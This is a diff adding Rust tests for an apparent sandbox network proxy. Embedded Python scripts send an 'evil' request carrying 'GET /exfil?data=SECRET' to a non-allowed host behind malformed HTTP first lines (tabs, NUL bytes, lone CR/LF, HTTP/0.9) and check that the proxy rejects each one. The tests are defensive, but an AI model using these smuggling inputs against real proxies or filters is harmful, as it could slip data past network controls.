@@ -248,6 +248,72 @@ show({
 }
 
 #[test]
+fn a_first_line_that_is_not_http_does_not_make_a_connection_raw() {
+    let host = Host::shared();
+    let world = World::new(&host);
+    let program = r"
+right = 'GET /right HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n'
+evil = 'GET /exfil?data=SECRET HTTP/1.1\r\nHost: example.org\r\nConnection: close\r\n\r\n'
+def both(first):
+    return exchange('example.com', 80, first, evil)
+show({
+    'right': exchange('example.com', 80, right),
+    'long method': both('A' * 65 + ' / HTTP/1.1\r\nHost: example.com\r\n\r\n'),
+    'tabs': both('GET\t/exfil\tHTTP/1.1\r\nHost: example.org\r\n\r\n'),
+    'spaces of Latin-1': both('GET\xa0/exfil\xa0HTTP/1.1\r\nHost: example.org\r\n\r\n'),
+    'leading space': both(' GET /exfil HTTP/1.1\r\nHost: example.org\r\n\r\n'),
+    'leading NUL': both('\0GET /exfil HTTP/1.1\r\nHost: example.org\r\n\r\n'),
+    'control character': both('GET /exfil\x01 HTTP/1.1\r\nHost: example.org\r\n\r\n'),
+    'lone CR': both('GET\rGET /exfil HTTP/1.1\r\nHost: example.org\r\n\r\n'),
+    'lone LF': both('GET /exfil HTTP/1.1\nHost: example.org\n\n'),
+    '0.9': both('GET /exfil\r\n\r\n'),
+    'another word': both('FROB /exfil\r\n\r\n'),
+})";
+    for sloplet in both(&host, &world) {
+        world.forget();
+        let shown = python(&sloplet, &world, &["--allow=example.com"], program);
+        for (attempt, text) in shown.as_object().unwrap() {
+            let status = match attempt.as_str() {
+                "right" => "200",
+                // Its server knows no such method, and closes.
+                "long method" => "501",
+                _ => "400",
+            };
+            assert!(text.as_str().unwrap().starts_with(&format!("HTTP/1.1 {status} ")), "{attempt}: {text}");
+        }
+        let paths: Vec<Value> = world.seen_of("http").iter().map(|one| one["path"].clone()).collect();
+        assert_eq!(paths, ["/right"], "{}", sloplet.name);
+    }
+}
+
+#[test]
+fn text_that_is_no_http_passes_where_a_rule_says_tcp_or_the_server_spoke_first() {
+    let host = Host::shared();
+    let world = World::new(&host);
+    let program = r"
+def says(host, port, words):
+    with connect(host, port) as stream:
+        stream.sendall(words)
+        said = b''
+        while not said.endswith(words):
+            more = stream.recv(1000)
+            if not more:
+                return said.decode('latin-1')
+            said += more
+        return 'ok'
+ping = b'*1\r\n$4\r\nPING\r\n'
+show([attempt(says, 'example.org', 7, ping), attempt(says, 'example.org', 25, b'EHLO me\r\n'),
+    attempt(says, 'example.com', 7, b'\0\0\0\x08\x04\xd2\x16\x2f'), attempt(says, 'example.com', 7, ping)])";
+    for sloplet in both(&host, &world) {
+        let options = ["--allow=example.org:7/tcp", "--allow=example.org:25", "--allow=example.com:7"];
+        let shown = python(&sloplet, &world, &options, program);
+        assert_eq!([&shown[0], &shown[1], &shown[2]], ["ok", "ok", "ok"], "{}: {shown}", sloplet.name);
+        let refusal = shown[3].as_str().unwrap();
+        assert!(refusal.starts_with("HTTP/1.1 400 ") && refusal.contains("--allow example.com:7/tcp"), "{refusal}");
+    }
+}
+
+#[test]
 fn probe_57_names_carry_nothing_out() {
     let host = Host::shared();
     let world = World::new(&host);
